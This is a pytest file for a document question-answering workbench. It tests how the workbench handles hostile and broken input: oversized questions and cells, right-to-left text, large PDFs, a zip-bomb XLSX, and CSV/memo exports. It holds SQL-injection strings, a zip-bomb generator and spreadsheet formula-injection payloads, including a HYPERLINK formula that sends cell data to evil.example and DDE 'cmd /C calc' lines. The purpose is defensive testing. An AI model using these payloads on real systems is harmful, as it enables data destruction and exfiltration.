"""Hostile and broken input (issue 5, item 5): each gets a clear error or correct behaviour — never a
traceback, never a half-written document. Real embedded Postgres; the CLI in a subprocess."""

from __future__ import annotations

import io
import random
import subprocess
import zipfile
from pathlib import Path

import pymupdf
import pytest

from core.errors import BadInput
from core.inputs import MAX_QUESTION_CHARS
from core.qa.exports import sheet_csv
from core.qa.feedback import answer_memo, conversation_history
from core.qa.service import ask
from core.workbench import Workbench
from tests.factories import make_xlsx, run_workbench

ROOT = Path(__file__).resolve().parents[2]
TABLES = (
    "rooms",
    "documents",
    "document_files",
    "pages",
    "sheets",
    "sheet_columns",
    "sheet_rows",
    "chunks",
    "term_stats",
    "conversations",
    "messages",
    "qa_queries",
    "qa_citations",
)


def _counts(wb: Workbench) -> dict[str, int]:
    with wb.db.connection() as conn:
        return {t: conn.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in TABLES}


def _done(wb: Workbench, question: str, room: str = "Demo") -> dict:
    events = list(ask(wb, question, room))
    assert events[-1].type == "done"
    return events[-1].result


def _cli(settings, *args: str) -> subprocess.CompletedProcess[str]:
    env = {"DATABASE_URL": settings.database_url, "WORKBENCH_HOME": str(settings.home), "WORKBENCH_RATE_LIMIT": "0"}
    return run_workbench(*args, env=env)


def _long_question(n: int = 20_000) -> str:
    rng = random.Random(5)
    vocabulary = [
        "raised",
        "Canada",
        "2021",
        "Series",
        "fund",
        "Harvestquay",
        "revenue",
        "the",
        "of",
        "in",
        "and",
        "lead",
        "investor",
        "DROP",
        "TABLE",
        "'",
        ";",
        "--",
        "%",
        "$",
        "?",
        "¿",
        "名前",
        "שם",
        "الشركة",
    ]
    words: list[str] = []
    while sum(len(w) + 1 for w in words) < n:
        words.append(rng.choice(vocabulary) + (str(rng.randint(0, 9999)) if rng.random() < 0.3 else ""))
    return " ".join(words)[:n]


# -- questions ---------------------------------------------------------------------------------------------


def test_a_20000_character_question_is_refused_in_core_with_the_cap_and_nothing_logged(demo: Workbench) -> None:
    question = _long_question()
    assert len(question) == 20_000
    before = _counts(demo)
    with pytest.raises(BadInput, match=r"The question has 20,000 characters; keep it to 4,000 or fewer\."):
        _done(demo, question)
    assert _counts(demo) == before
    # Under the cap, the same kind of text is answered or abstains.
    result = _done(demo, question[:MAX_QUESTION_CHARS])
    assert result["answer"] and isinstance(result["abstained"], bool)
    assert _counts(demo)["qa_queries"] == before["qa_queries"] + 1 and result["timings"]["total_ms"] < 60_000


def test_a_20000_character_question_on_the_command_line(demo: Workbench, settings) -> None:
    run = _cli(settings, "ask", _long_question(), "--room", "Demo", "--json")
    assert run.returncode == 1 and "Traceback" not in run.stderr
    assert "The question has 20,000 characters; keep it to 4,000 or fewer." in run.stderr


@pytest.mark.parametrize(
    "question",
    [
        "'; DROP TABLE documents; --",
        "How much was raised in Canada'; DELETE FROM chunks WHERE '1'='1",
        "Robert'); DROP TABLE qa_queries;-- raised how much?",
        "1 OR 1=1; UPDATE sheet_rows SET values = '{}'::jsonb; --",
        "%' UNION SELECT password FROM users --",
        "What is $$ || pg_sleep(10) || $$ ?",
    ],
)
def test_sql_looking_questions_are_answered_or_abstained_and_every_table_is_intact(
    demo: Workbench, question: str
) -> None:
    before = _counts(demo)
    with demo.db.connection() as conn:
        cells = conn.execute("SELECT md5(string_agg(values::text, ',' ORDER BY id)) FROM sheet_rows").fetchone()[0]
    result = _done(demo, question)
    assert isinstance(result["answer"], str) and result["answer"]
    after = _counts(demo)
    assert (
        {t: after[t] - before[t] for t in TABLES if after[t] != before[t]}
        == {
            "conversations": 1,
            "messages": 2,
            "qa_queries": 1,
            "qa_citations": len(result["citations"]),
        }
        if result["citations"]
        else {"conversations": 1, "messages": 2, "qa_queries": 1}
    )
    with demo.db.connection() as conn:
        assert (
            conn.execute("SELECT md5(string_agg(values::text, ',' ORDER BY id)) FROM sheet_rows").fetchone()[0] == cells
        )
        logged = conn.execute("SELECT question FROM qa_queries ORDER BY id DESC LIMIT 1").fetchone()[0]
    assert logged == question  # stored verbatim, as a parameter


def test_sql_looking_search_queries_return_hits_or_none(demo: Workbench) -> None:
    before = _counts(demo)
    for query in ("'; DROP TABLE documents; --", "\\x00 \\' OR ''='", ") | ! & <-> :*"):
        assert isinstance(demo.search(query, "Demo"), list)
    assert _counts(demo) == before


# -- unicode and right-to-left text -----------------------------------------------------------------------

RTL_CSV = (
    "الشركة,البلد,المبلغ (دولار),שם החברה,Emoji\n"
    "شركة النور,مصر,1500000,חברת אור,🚀 rocket launch\n"
    "شركة الأمل,الأردن,2500000,חברת שמש,💰 money bag\n"
    "Ünïcödé Straße GmbH,Österreich,3200000,אבג,👩🏽‍💻 coder\n"
).encode()


def test_right_to_left_and_emoji_sheets_are_ingested_intact_and_searchable(workbench: Workbench) -> None:
    result = workbench.ingest_upload(RTL_CSV, "شركات.csv", "غرفة", embed=False)
    assert result.status == "ready" and result.rows == 3, result.error
    with workbench.db.connection() as conn:
        names = [r[0] for r in conn.execute("SELECT name FROM sheet_columns ORDER BY position")]
        values = [r[0] for r in conn.execute("SELECT values FROM sheet_rows ORDER BY row_index")]
    assert names == ["الشركة", "البلد", "المبلغ (دولار)", "שם החברה", "Emoji"]
    assert values[0][0] == "شركة النور" and values[0][3] == "חברת אור" and values[2][4] == "👩🏽‍💻 coder"
    for query, ref in (("شركة النور", "A2"), ("חברת שמש", "D3"), ("Österreich", "B4"), ("rocket", "E2")):
        hits = workbench.search(query, "غرفة", k=3)
        assert (hits and hits[0].ref.endswith(f"!{ref}")) or any(h.ref.endswith(f"!{ref}") for h in hits), (query, hits)
    answer = _done(workbench, "Which company is in مصر?", "غرفة")
    assert "شركة النور" in answer["answer"] and answer["citations"] and not answer["abstained"]
    assert [r.name for r in workbench.rooms()] == ["غرفة"]


# -- oversized cells and files ----------------------------------------------------------------------------


def _megabyte_of_words() -> str:
    rng = random.Random(1)
    return " ".join("".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(8)) for _ in range(120_000))[
        :1_000_000
    ]


def test_a_one_megabyte_csv_cell_is_refused_with_a_clear_message_and_nothing_stored(workbench: Workbench) -> None:
    data = f'Company,Notes\nAcme,"{_megabyte_of_words()}"\n'.encode()
    result = workbench.ingest_upload(data, "notes.csv", "Deal", embed=False)
    assert result.status == "failed" and "runs on for over" in result.error and "characters" in result.error
    counts = _counts(workbench)
    assert counts["documents"] == 1 and counts["sheets"] == counts["chunks"] == counts["document_files"] == 0


def _xlsx_with_cell(text: str) -> bytes:
    """A workbook whose B2 holds `text` whole (openpyxl itself cuts a cell at Excel's 32,767 characters)."""
    packed = io.BytesIO(make_xlsx({"Notes": [["Company", "Notes"], ["Acme", "PLACEHOLDER"]]}))
    out = io.BytesIO()
    with zipfile.ZipFile(packed) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            dst.writestr(info, data.replace(b"PLACEHOLDER", text.encode()) if b"PLACEHOLDER" in data else data)
    return out.getvalue()


def test_a_one_megabyte_xlsx_cell_is_refused_with_a_clear_message_and_nothing_stored(workbench: Workbench) -> None:
    # Found by this test: Postgres refused to index the row's text (tsvector over 1 MB) and ingestion
    # raised ProgramLimitExceeded; the cell is now refused at parse (in the child, before the worker reads the
    # parsed result back), naming the cell, and nothing is half-written.
    result = workbench.ingest_upload(_xlsx_with_cell(_megabyte_of_words()), "notes.xlsx", "Deal", embed=False)
    assert result.status == "failed" and "sheet 'Notes', cell B2 holds" in result.error
    assert "over the limit of 131,072 for one cell" in result.error
    assert "Split that text into smaller cells" in result.error
    counts = _counts(workbench)
    assert counts["documents"] == 1 and counts["sheets"] == counts["sheet_rows"] == counts["chunks"] == 0
    # A long cell that can be indexed (100,000 characters) is stored whole and found.
    long = _megabyte_of_words()[:100_000]
    assert workbench.ingest_upload(_xlsx_with_cell(long), "long.xlsx", "Deal", embed=False).status == "ready"
    with workbench.db.connection() as conn:
        assert conn.execute("SELECT values ->> 1 FROM sheet_rows").fetchone()[0] == long
    assert any(h.kind == "cell" for h in workbench.search(long.split()[500], "Deal", k=3))


def test_files_over_the_size_limit_are_refused_in_core_and_on_the_command_line(settings, db, tmp_path: Path) -> None:
    small = settings.model_copy(update={"max_file_mb": 0.5})
    wb = Workbench(small, db=db)
    data = b"Company,Amount\n" + b"".join(f"Company {i},{i * 1000}\n".encode() for i in range(40_000))
    assert len(data) > 600_000
    result = wb.ingest_upload(data, "big.csv", "Deal", embed=False)
    assert result.status == "failed" and "over the 0.5 MB limit" in result.error
    assert "WORKBENCH_MAX_FILE_MB" in result.error
    assert _counts(wb)["sheet_rows"] == 0 and _counts(wb)["document_files"] == 0
    path = tmp_path / "big.csv"
    path.write_bytes(data)
    env_settings = small.model_copy(update={"home": tmp_path / "home"})
    env = {
        "DATABASE_URL": env_settings.database_url,
        "WORKBENCH_MAX_FILE_MB": "0.5",
        "WORKBENCH_HOME": str(env_settings.home),
    }
    run = run_workbench("ingest", str(path), "--room", "Deal", "--wait", env=env)
    assert run.returncode == 1 and "Traceback" not in run.stderr
    assert "FAILED  big.csv" in run.stdout and "over the 0.5 MB limit" in run.stdout


def _zip_bomb_xlsx(unpacked_mb: int) -> bytes:
    """A workbook whose one sheet unpacks to `unpacked_mb` MB of the same bytes (deflate packs it ~1000:1)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        zf.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        )
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            block = b"<c><v>0</v></c>" * 65_536
            for _ in range(unpacked_mb * 1024 * 1024 // len(block) + 1):
                sheet.write(block)
    return buffer.getvalue()


def test_a_decompression_bomb_xlsx_is_refused_before_it_is_unpacked(workbench: Workbench) -> None:
    data = _zip_bomb_xlsx(520)
    assert len(data) < 5_000_000  # a few MB that would unpack to over 500 MB
    result = workbench.ingest_upload(data, "bomb.xlsx", "Deal", embed=False)
    assert result.status == "failed" and "zip bomb" in result.error and "over the 500 MB limit" in result.error
    counts = _counts(workbench)
    assert counts["documents"] == 1 and counts["sheets"] == counts["sheet_rows"] == counts["document_files"] == 0


def test_a_pdf_of_thousands_of_pages_is_refused_with_a_clear_message(workbench: Workbench) -> None:
    doc = pymupdf.open()
    for _ in range(workbench.settings.max_pdf_pages + 1):
        doc.new_page(width=612, height=792)
    doc[0].insert_text((72, 72), "Appendix", fontsize=11)
    data = doc.tobytes(garbage=0)
    doc.close()
    result = workbench.ingest_upload(data, "appendix.pdf", "Deal", embed=False)
    assert result.status == "failed"
    assert result.error.startswith(f"appendix.pdf has {workbench.settings.max_pdf_pages + 1} pages, over the limit of "
                                   f"{workbench.settings.max_pdf_pages}")  # fmt: skip
    assert "WORKBENCH_MAX_PDF_PAGES" in result.error
    assert _counts(workbench)["pages"] == 0 and _counts(workbench)["chunks"] == 0


# -- exports ------------------------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def _formula_room(wb: Workbench) -> Workbench:
    rows = "".join(f'Company {i},"{f.replace(chr(34), chr(34) * 2)}",-{i}.5\n' for i, f in enumerate(FORMULAS))
    result = wb.ingest_upload(f"Company,Note,Change\n{rows}".encode(), "formulas.csv", "Deal", embed=False)
    assert result.status == "ready", result.error
    return wb


def test_the_sheet_csv_export_neutralises_formulas_and_keeps_numbers(workbench: Workbench) -> None:
    wb = _formula_room(workbench)
    [sheet] = wb.sheets("Deal")
    text = sheet_csv(wb.db, sheet.sheet_id)
    import csv

    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["Company", "Note", "Change"]
    assert [r[1] for r in rows[1:]] == ["'" + f for f in FORMULAS]
    assert [r[2] for r in rows[1:]] == [f"-{i}.5" for i in range(len(FORMULAS))]


def test_the_markdown_memo_export_neutralises_formula_cells(workbench: Workbench) -> None:
    wb = _formula_room(workbench)
    result = _done(wb, "What is the Note of Company 0?", "Deal")
    assert any(c.get("value") == FORMULAS[0] for c in result["citations"]), result
    [turn] = conversation_history(wb.db, wb.room("Deal").id, result["conversation_id"])
    memo = answer_memo(turn, "Deal")
    assert "= '" + FORMULAS[0] in memo  # the cell, as the memo lists it, is text to a spreadsheet
    assert "= " + FORMULAS[0] not in memo
